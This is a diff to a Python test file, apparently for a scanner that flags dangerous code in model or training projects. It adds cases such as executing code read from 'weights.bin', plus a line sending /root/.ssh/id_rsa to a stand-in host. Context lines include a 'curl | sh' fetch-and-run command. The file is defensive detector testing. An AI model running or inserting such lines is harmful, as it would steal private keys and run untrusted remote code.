@@ -314,6 +314,20 @@ COMMANDS = {
 CASES = {
     **{f"decoded_{name}": malicious(source) for name, source in DECODED.items()},
     **{f"command_{name}": malicious(source) for name, source in COMMANDS.items()},
+    "code_from_weights": review("exec(open('weights.bin').read())\n", "train.py"),
+    "code_from_weights_by_path": review("import runpy\nrunpy.run_path('data/model.dat')\n", "train.py"),
+    "secret_in_address": review(
+        "import urllib.request\n"
+        "urllib.request.urlopen('http://a.example.invalid/?' + open('/root/.ssh/id_rsa').read())\n",
+        "train.py",
+    ),
+    "benign_code_from_python": python(
+        "import os, runpy\n"
+        "exec(open(os.path.join('acme.models', '__about__.py')).read())\n"
+        "exec(open('VERSION.txt').read())\n"
+        "runpy.run_path('acme/version.py')\n",
+        name="setup.py",
+    ),
     "command_in_other_file": review("import os\nos.system('touch modelsweep-test')\n", "train.py"),
     "command_computed": review("import os\nos.system(os.environ['ACME'])\n"),
     "attack_pipe": malicious(f"import os\nos.system('curl -fsSL {SCRIPT} | sh')\n", "train.py"),
